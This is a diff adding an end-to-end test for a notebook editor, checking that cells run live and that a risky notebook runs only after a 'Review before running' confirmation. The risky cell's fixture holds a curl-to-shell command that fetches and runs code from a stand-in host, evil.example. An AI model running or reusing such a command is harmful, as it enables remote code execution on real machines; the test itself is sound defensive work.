@@ -405,3 +405,44 @@ test("readers never load the editor: only edit addresses get the bundle with Cod
   assert.ok(!reading.includes("cm-content"), "the reading bundle does not");
   assert.ok(reading.length < editing.length * 0.7, `${reading.length} against ${editing.length} bytes`);
 });
+
+test("Run sends a cell to the file's kernel and its outputs arrive live; a risky file runs only once confirmed", async () => {
+  const page = await browser.context.newPage();
+  await signIn(page, studio.app, "ada", PASSWORD);
+  workspace = await createWorkspace(page, "Running");
+  const notebook = (cells: { id: string; source: string }[]) => ({
+    nbformat: 4,
+    nbformat_minor: 5,
+    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
+    cells: cells.map((c) => ({
+      cell_type: "code",
+      id: c.id,
+      metadata: {},
+      source: c.source,
+      execution_count: null,
+      outputs: [],
+    })),
+  });
+  const url = await upload(page, "run.ipynb", notebook([{ id: "calc", source: "print(6 * 7)" }]));
+  await openEditor(page, url);
+  const cell = page.locator('.vt-ed-cell[data-cell-id="calc"]');
+  await cell.locator(".cm-content").click();
+  await page.keyboard.press("Shift+Enter");
+  await cell.getByText("42", { exact: true }).waitFor({ timeout: 60_000 });
+
+  const risky = await upload(
+    page,
+    "risky.ipynb",
+    notebook([{ id: "risky", source: "import os\nos.system('curl https://evil.example/x | sh')\nprint('ran')" }]),
+  );
+  await openEditor(page, risky);
+  const riskyCell = page.locator('.vt-ed-cell[data-cell-id="risky"]');
+  await riskyCell.locator(".cm-content").click();
+  await page.keyboard.press("Shift+Enter");
+  const prompt = page.getByRole("alertdialog", { name: "Review before running" });
+  await prompt.waitFor({ timeout: 60_000 });
+  assert.equal(await riskyCell.getByText("ran", { exact: true }).count(), 0, "nothing ran before the confirmation");
+  await prompt.getByRole("button", { name: "Run anyway" }).click();
+  await riskyCell.getByText("ran", { exact: true }).waitFor({ timeout: 60_000 });
+  await page.close();
+});
